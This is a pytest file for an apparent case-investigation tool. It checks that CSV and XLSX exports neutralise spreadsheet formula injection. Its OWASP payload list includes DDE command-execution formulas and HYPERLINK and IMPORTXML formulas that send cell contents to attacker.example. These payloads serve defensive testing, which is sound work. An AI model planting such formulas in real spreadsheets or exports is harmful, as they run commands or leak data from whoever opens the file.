"""Nothing a case says becomes a spreadsheet formula (OWASP "CSV injection").

Payloads from OWASP's CSV-injection page and its usual variants are written into every text a
case author controls that reaches the exports (the case, a source, an actor, an event, a fact,
an evidence item); the case's CSV and XLSX files are read back with the csv module and with
openpyxl: no cell is a formula, every payload is still there as text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from casebook.exports import Table, TableSet, export
from casebook.model.yamlsafe import parse_yaml
from casebook.notebook.workbook import Workbook
from tests.conftest import FIXTURES

OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/leak?"&A1,"Click for the sealed record")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "\uff1d1+1",  # full-width equals sign
]


def _case_with(tmp_path: Path, payload: str) -> Path:
    """The clean fixture with ``payload`` in every text field an export shows."""
    text = (FIXTURES / "cases" / "clean-investigation--clean.yaml").read_text(encoding="utf-8")
    quoted = '"' + payload.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'
    for old in ("title: A clean investigation (test fixture)",
                "summary: An invented robbery investigated by the book.",
                "title: Police report,",
                "summary: A man robbed a store clerk at gunpoint.",
                "description: the store clerk who was robbed"):
        key, _, rest = old.partition(": ")
        new = f"{key}: {quoted}" + ("," if rest.endswith(",") else "")
        assert old in text
        text = text.replace(old, new, 1)
    path = tmp_path / "payload.yaml"
    path.write_text(text, encoding="utf-8")
    assert not parse_yaml(text, "payload.yaml")[1]
    return path


@pytest.mark.parametrize("payload", OWASP, ids=range(len(OWASP)))
def test_case_exports_hold_payloads_as_text(tmp_path: Path, payload: str) -> None:
    book = Workbook.open(_case_with(tmp_path, payload), protocols="all", lens="best")
    written = book.export(tmp_path / "out")
    names = {p.name for p in written}
    assert {"chronology.csv", "findings.csv", "workbook.xlsx", "chronology.docx"} <= names

    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "chronology.csv")
                                       .read_text(encoding="utf-8"))))
    cells = [c for r in rows for c in r]
    stored = payload.strip()  # case text is stripped of surrounding whitespace on loading
    assert "'" + stored in cells  # neutralised, not dropped
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r", "\uff1d")]

    xlsx = tmp_path / "out" / "workbook.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist()
                  if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    book_read = load_workbook(xlsx)
    values = []
    for sheet in book_read.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                values.append(cell.value)
    assert stored in values  # the text itself, as text


def test_a_formula_looking_header_and_cell_in_any_table(tmp_path: Path) -> None:
    tables = TableSet({"t": Table.of(["=1+1", "n"], [{"=1+1": "@SUM(A1)", "n": -3}])},
                      workbook="w")
    export(tables, tmp_path, ("csv", "xlsx"))
    rows = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8")))
    assert rows == [["'=1+1", "n"], ["'@SUM(A1)", "-3"]]
    sheet = load_workbook(tmp_path / "w.xlsx")["T"]
    assert [[c.value for c in r] for r in sheet.iter_rows()] == [["=1+1", "N"], ["@SUM(A1)", -3]]
    assert sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["B2"].data_type == "n"  # a number stays a number


def test_check_csv_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from casebook.cli import main

    main(["check", str(_case_with(tmp_path, OWASP[0])), "--format", "csv", "--lens", "best"])
    cells = [c for r in csv.reader(io.StringIO(capsys.readouterr().out)) for c in r]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t")]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1",
                                  "\n=1+1", "\uff1d1+1", "\uff0b1"])
def test_every_character_a_spreadsheet_reads_as_a_formula_start_is_guarded(text: str) -> None:
    from casebook.exports.cells import csv_cell
    from casebook.intake.formulas import without_guard

    assert csv_cell(text) == "'" + text                   # OWASP's apostrophe in front
    assert without_guard(csv_cell(text)) == text          # and taken off again on import
    assert csv_cell("plain " + text) == "plain " + text   # only the first character counts
